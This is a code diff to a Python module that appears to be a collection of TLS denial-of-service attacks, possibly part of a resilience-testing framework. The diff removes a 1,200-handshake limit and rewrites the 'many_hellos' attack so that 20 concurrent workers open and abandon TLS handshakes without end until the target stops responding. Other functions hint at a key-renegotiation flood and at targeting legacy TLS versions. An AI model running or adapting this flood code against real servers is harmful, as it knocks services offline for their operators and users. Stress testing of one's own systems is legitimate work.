@@ -17,8 +17,6 @@ from .slow import crowd
 
 ALERT = "alert"
 """The outcome for somebody who is told in TLS's own terms that it will not do."""
-HELLOS = 1200
-"""TLS handshakes that are begun: more than one address may begin at once."""
 VERSIONS = [ssl.TLSVersion.TLSv1, ssl.TLSVersion.TLSv1_1]
 RENEWALS = 20_000
 """Times that a client takes new keys, which a server needs 35 microseconds for each time."""
@@ -130,17 +128,17 @@ async def new_keys_without_end(target: Target) -> Collection[str]:
 @attack(CUT, doors=["tls"])
 async def many_hellos(target: Target) -> Collection[str]:
     """TLS handshakes that are begun and left, by one address as fast as they go, until they are not answered."""
+    ends: set[str] = set()
 
-    async def begin(count: int) -> set[str]:
-        ends = set()
-        for _ in range(count):
+    async def begin() -> None:
+        while not ends:
             async with target.wire() as raw:
                 await raw.send(Handshake(raw, _context(target)).hello())
                 if not await raw.some():
                     ends.add(CUT)
-        return ends
 
-    return set().union(*await asyncio.gather(*(begin(HELLOS // 20) for _ in range(20))))
+    await asyncio.gather(*(begin() for _ in range(20)))
+    return ends
 
 
 @attack(CUT, doors=["tls"], slow=True)
